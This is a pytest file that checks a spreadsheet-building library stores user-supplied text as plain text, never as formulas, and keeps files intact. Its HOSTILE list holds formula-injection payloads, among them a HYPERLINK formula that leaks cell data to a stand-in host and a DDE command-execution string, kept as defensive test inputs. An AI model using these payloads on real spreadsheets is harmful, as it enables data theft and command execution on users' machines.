"""Texts of people never become formulas, and never break the file."""

from __future__ import annotations

import io
import re
import unicodedata
import zipfile
from decimal import Decimal

import opened
import openpyxl
import pytest
import workbook_example as example
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.workbook import Workbook

from excel_templates.cells import TEXT_LIMIT, cell_at, plain_text, write
from excel_templates.fill import build_workbook
from forecast.errors import InputError

HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "#REF!",
    "<script>&amp;]]>",
    "a\x00b\x07c\x1b[31m",
    "\u202egnirts",
    "x" * 40_000,
    "\ud800 lone surrogate",
    "_x000D_ escape",
)


@given(st.text(max_size=200))
def test_any_text_is_stored_as_a_text(text: str) -> None:
    book = Workbook()
    sheet = book.worksheets[0]
    write(cell_at(sheet, 1, 1), text)
    cell = sheet["A1"]
    assert cell.data_type in ("s", "n")  # n: nothing is left of it
    assert not any(unicodedata.category(c) == "Cc" and c != "\n" for c in str(cell.value or ""))
    file = io.BytesIO()
    book.save(file)
    read = openpyxl.load_workbook(file).worksheets[0]["A1"]
    assert read.data_type != "f"


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@x", "=", "%x"])
def test_a_text_like_a_formula_keeps_its_mark(text: str) -> None:
    sheet = Workbook().worksheets[0]
    write(cell_at(sheet, 1, 1), text)
    assert sheet["A1"].value == text
    assert sheet["A1"].data_type == "s"
    assert sheet["A1"].quotePrefix


def test_long_texts_are_shortened() -> None:
    assert len(plain_text("x" * 99_999)) == TEXT_LIMIT


def test_numbers_stay_numbers() -> None:
    sheet = Workbook().worksheets[0]
    for row, (value, stored) in enumerate(
        [(Decimal("12.34"), 12.34), (0.5, 0.5), (3, 3), (None, None), (True, "yes"), (False, "no")],
        start=1,
    ):
        write(cell_at(sheet, row, 1), value)
        assert sheet.cell(row, 1).value == stored


def test_a_value_inside_merged_cells_is_an_error_that_says_where() -> None:
    sheet = Workbook().worksheets[0]
    sheet.merge_cells("A1:B1")
    with pytest.raises(InputError, match="B1 lies inside merged cells"):
        cell_at(sheet, 1, 2)


def test_hostile_names_stay_texts_everywhere() -> None:
    names = [f"{text[:60]} {i}" if i else text[:60] for i, text in enumerate(HOSTILE)]
    names = [name.encode("utf-8", "ignore").decode() for name in names]
    decisions = example.paths(20, 12, names)
    terms = example.terms().model_copy(update={"name": HOSTILE[0]})
    recommendation, decisions = example.recommendation(terms, decisions)
    content = build_workbook(recommendation, decisions)
    workbook = opened.formulas(content)
    ours = opened.formulas(build_workbook(*example.recommendation(decisions=example.paths(20, 12))))
    foreign = [
        cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" and ("evil" in str(cell.value) or "cmd" in str(cell.value))
    ]
    assert foreign == []
    assert opened.read(workbook, "about_contract").startswith("=HYPERLINK(")
    assert opened.cells(workbook, "about_contract")[0][0].data_type == "s"
    assert opened.Worked(workbook)["checks_failed"] == 0
    assert len(workbook.sheetnames) == len(ours.sheetnames)
    with zipfile.ZipFile(io.BytesIO(content)) as file:
        for name in file.namelist():
            part = file.read(name)
            outside = re.sub(rb"<t[ >].*?</t>", b"", part, flags=re.DOTALL)
            assert b"evil.example" not in outside, name
